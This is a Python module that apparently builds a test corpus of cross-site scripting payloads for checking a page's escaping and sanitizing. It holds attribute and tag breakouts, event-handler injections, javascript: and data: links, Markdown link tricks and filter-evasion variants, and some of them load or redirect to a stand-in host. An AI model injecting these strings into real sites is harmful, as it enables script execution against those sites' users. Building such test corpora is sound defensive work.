"""What people write who want a page to run it: all of our own making, one line each.

`zq` marks what could only come from them: no page of ours has such an element or attribute.
"""

from itertools import product

ENDS = (
    "",
    '">',
    "'>",
    "</script>",
    "</title>",
    "</textarea>",
    "</style>",
    "--><!--",
    "</option></select>",
    "]]>",
    "\\\"'>",
)
"""What ends the place in which a text stands: an attribute, a script, a title, a box, a comment, a list."""
RUNS = (
    "<script>alert(1)</script>",
    "<img src=zq onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<zq onfocus=alert(1) tabindex=1 autofocus>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<base href=//zq.example/>",
)
"""What would then run, or lead away."""
WITHIN = (
    '" zqx=1 onmouseover=alert(1) a="',
    "' zqx=1 onfocus=alert(1) autofocus a='",
    "` zqx=1 onclick=alert(1) a=`",
    '" style=position:fixed zqx="1',
    '\x0b" onpointerenter=alert(1) zqx="',
)
"""What stays in the element but gives it an attribute."""
LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//zq.example/x",
    "[zq](javascript:alert(1))",
    "[zq](java&#115;cript:alert(1))",
    "[zq](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "![zq](https://zq.example/pixel.png)",
    '![zq](x" onerror="alert(1))',
    "[zq]: javascript:alert(1)\n[zq]",
    '```zq" onclick=alert(1)\nx\n```',
    "<a href=javascript:alert(1)>zq</a>",
)
"""Addresses, and Markdown that makes links and pictures."""
ODD = (
    "{{ 7|add:7 }}{% debug %}",
    "${alert(1)}",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/zq>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<math><mtext><img src=zq onerror=alert(1)>",
    "\u2028</script><script>alert(1)//",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cimg src=zq onerror=alert(1)\\u003e",
    "<form action=javascript:alert(1)><button>zq</button>",
    "<meta http-equiv=refresh content='0;url=//zq.example/'>",
    "<link rel=stylesheet href=//zq.example/x.css>",
    "<object data=javascript:alert(1)>",
    "<embed src=//zq.example/x>",
    "<style>@import '//zq.example/x.css'</style>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=zq onerror=alert(1)>">',
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<input autofocus onfocus=alert(1) zqx>",
)
"""What older filters let pass."""
PAYLOADS = [*map("".join, product(ENDS, RUNS)), *WITHIN, *LINKS, *ODD]


def packed(length: int) -> list[str]:
    """Return all payloads in texts of at most `length` characters, as few as there can be in this order.

    What is longer than that is cut, as somebody would who writes into a short field.
    """
    texts = [""]
    for payload in (one[:length] for one in PAYLOADS):
        if len(texts[-1]) + len(payload) > length:
            texts.append("")
        texts[-1] += payload
    return texts
